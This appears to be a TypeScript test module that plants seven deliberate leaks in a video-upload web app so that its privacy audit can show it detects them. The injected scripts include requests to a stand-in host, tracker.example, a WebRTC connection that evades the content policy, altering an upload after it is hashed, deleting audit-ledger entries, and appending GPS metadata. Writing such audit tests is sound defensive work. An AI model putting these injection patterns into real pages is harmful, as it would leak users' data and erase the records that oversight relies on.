/** Leaks that the audit plants to show that it would find them: each by its name, with what it does and the finding that must come. */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Plugin } from 'vite';
import { nativeTool } from '../find-native.ts';
import type { Recording } from './stage.ts';

export const SABOTAGES = {
  'hidden-frame':
    'frames from before the window, hidden behind an edit list as fast cutters do, put in after the inspection',
  gps: 'a place (©xyz) appended to the clip after the inspection',
  beacon: 'a request to the hub itself that goes past the door',
  'second-host': 'a request to another host, with the content policy taken away',
  webrtc: 'a WebRTC connection, which no content policy stops',
  'changed-body': 'one byte of the upload changed after it was hashed for the ledger',
  'ledger-line-removed': 'one line taken out of the ledger after sending',
} as const;

export type Sabotage = keyof typeof SABOTAGES;

/** Words of the finding that must come, by the check that makes it. */
export const MUST_BE_FOUND: Readonly<Record<Sabotage, { readonly check: string; readonly words: RegExp }>> = {
  'hidden-frame': { check: 'frames', words: /outside the window/ },
  gps: { check: 'metadata', words: /©xyz/ },
  beacon: { check: 'requests', words: /neither in the ledger nor a file of the page: .*\/seen/ },
  'second-host': { check: 'hosts', words: /tracker\.example/ },
  webrtc: { check: 'names', words: /UDP to/ },
  'changed-body': { check: 'ledger', words: /not in the ledger/ },
  'ledger-line-removed': { check: 'chain', words: /does not follow/ },
};

const ZIP_INPUT = 'input: clip.bytes';

/** The one change to the page's code that planting needs: what is packed may differ from what was inspected. */
export const sabotagePlugin = (): Plugin => ({
  name: 'planted-leak',
  enforce: 'pre',
  transform: (code, id) => {
    if (!id.endsWith('src/stages/inspect/package.ts')) return null;
    if (!code.includes(ZIP_INPUT)) throw new Error(`${id} no longer has “${ZIP_INPUT}”: plant the leak elsewhere`);
    return {
      code: code.replace(ZIP_INPUT, 'input: (globalThis.plantLeak ?? ((bytes) => bytes))(clip.bytes)'),
      map: null,
    };
  },
});

/** The window cut by stream copy: it begins at the keyframe before the window and hides the rest behind an edit list. */
const fastCut = ({ file, from, to }: Recording): Buffer => {
  const path = join(mkdtempSync(join(tmpdir(), 'porchlight-leak-')), 'clip.mp4');
  execFileSync(nativeTool('ffmpeg'), [
    ...['-v', 'error', '-ss', String(from), '-to', String(to), '-i', file],
    ...['-c', 'copy', '-map_metadata', '-1', '-fflags', '+bitexact', path],
  ]);
  return readFileSync(path);
};

/** `udta/©xyz` as telephones write it (QuickTime File Format, user data text strings). */
const xyzBox = (): Buffer => {
  const text = Buffer.from('+37.3349-122.0090/', 'latin1');
  const box = (type: string, body: Buffer): Buffer => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(8 + body.length);
    head.write(type, 4, 'latin1');
    return Buffer.concat([head, body]);
  };
  return box('udta', box('\u00a9xyz', Buffer.concat([Buffer.from([0, text.length, 0x15, 0xc7]), text])));
};

const decode = (bytes: Buffer): string =>
  `Uint8Array.from(atob(${JSON.stringify(bytes.toString('base64'))}), (c) => c.charCodeAt(0))`;

/** What runs in the page before its own code (or, for the ledger, after sending), as script. */
export const leakingScript = (sabotage: Sabotage, recording: Recording): string => {
  switch (sabotage) {
    case 'hidden-frame':
      return `globalThis.plantLeak = () => ${decode(fastCut(recording))};`;
    case 'gps':
      return `globalThis.plantLeak = (bytes) => {
        const more = ${decode(xyzBox())};
        const whole = new Uint8Array(bytes.length + more.length);
        whole.set(bytes); whole.set(more, bytes.length);
        return whole;
      };`;
    case 'beacon':
      return `setTimeout(() => void fetch('/v1/seen?by=' + screen.width).catch(() => undefined), 500);`;
    case 'second-host':
      return `setTimeout(() => void fetch('http://tracker.example/seen', { mode: 'no-cors' }).catch(() => undefined), 500);`;
    case 'webrtc':
      // Taken before the page closes that door (src/net/close-doors.ts), as code injected from outside could.
      return `const Connection = globalThis.RTCPeerConnection;
        setTimeout(() => {
          const peer = new Connection({ iceServers: [{ urls: 'stun:tracker.example:3478' }] });
          peer.createDataChannel('leak');
          void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        }, 500);`;
    case 'changed-body':
      return `const real = globalThis.fetch;
        globalThis.fetch = (url, options = {}) => {
          if (options.method !== 'PATCH') return real(url, options);
          const body = options.body.slice(); body[body.length - 1] ^= 1;
          return real(url, { ...options, body });
        };`;
    case 'ledger-line-removed':
      return `new Promise((resolve) => {
        const opening = indexedDB.open('porchlight');
        opening.onsuccess = () => {
          const lines = opening.result.transaction('ledger', 'readwrite').objectStore('ledger');
          lines.openCursor().onsuccess = ({ target: { result: cursor } }) => {
            if (cursor === null) { opening.result.close(); return resolve(); }
            if (cursor.value.method === 'PATCH' && cursor.value.of === undefined) cursor.delete();
            cursor.continue();
          };
        };
      });`;
  }
};
